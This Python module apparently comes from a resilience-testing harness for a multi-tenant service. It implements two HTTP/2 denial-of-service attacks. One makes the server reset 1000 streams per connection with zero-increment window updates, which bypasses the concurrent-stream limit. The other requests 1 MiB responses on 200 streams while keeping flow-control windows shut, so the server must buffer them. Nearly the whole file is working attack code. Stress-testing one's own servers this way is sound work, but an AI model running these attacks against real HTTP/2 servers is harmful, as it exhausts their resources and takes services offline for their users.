"""Two ways around the bound on streams over HTTP/2: to have the server reset them, and to leave answers unread."""

import asyncio

from aim import Aim, Attack
from http2_frames_kit import DATA, END_STREAM, OPENING, SETTINGS, WINDOW, frame, head
from stage import ENCRYPTED

BODY = b'{"input": "x"}'
ZERO = (0).to_bytes(4, "big")
NO_WINDOW = (4).to_bytes(2, "big") + ZERO  # SETTINGS_INITIAL_WINDOW_SIZE
STREAMS = 1000  # on one connection, of which 256 may be open
LARGE = b'{"input": "%s"}' % (b"x" * (2**20 - 100))


async def made(aim: Aim) -> None:
    """A whole request, and then a window that grows by nothing: an error of the stream, for which it is reset."""

    streams = range(1, 2 * STREAMS, 2)
    said = OPENING + b"".join(
        head(stream, key=aim.key) + frame(DATA, END_STREAM, stream, BODY) + frame(WINDOW, 0, stream, ZERO)
        for stream in streams
    )

    async def one() -> None:
        reader, writer = await aim.open("h2")
        writer.write(said)
        aim.tally["streams"] += STREAMS
        while await reader.read(65536):
            pass

    await aim.crowd(4, one)


async def unread(aim: Aim) -> None:
    """Answers of 1 MiB on 200 streams whose windows stay shut."""

    async def one() -> None:
        reader, writer = await aim.open("h2")
        writer.write(OPENING + frame(SETTINGS, 0, 0, NO_WINDOW))
        swallowing = asyncio.create_task(reader.read())
        try:
            for stream in range(1, 401, 2):
                writer.write(head(stream, key=aim.key))
                for at in range(0, len(LARGE), 16_000):
                    last = at + 16_000 >= len(LARGE)
                    writer.write(frame(DATA, END_STREAM if last else 0, stream, LARGE[at : at + 16_000]))
                await writer.drain()
                aim.tally["streams"] += 1
                await asyncio.sleep(0.02)
            await swallowing
        finally:
            swallowing.cancel()
            writer.transport.abort()

    await aim.crowd(2, one)


MADE = Attack(
    "HTTP/2: made to reset", "A tenant makes the server reset each of its streams.", made, ENCRYPTED
)
UNREAD = Attack(
    "HTTP/2: shut windows", "A tenant asks for 400 answers of 1 MiB with its windows shut.", unread, ENCRYPTED
)
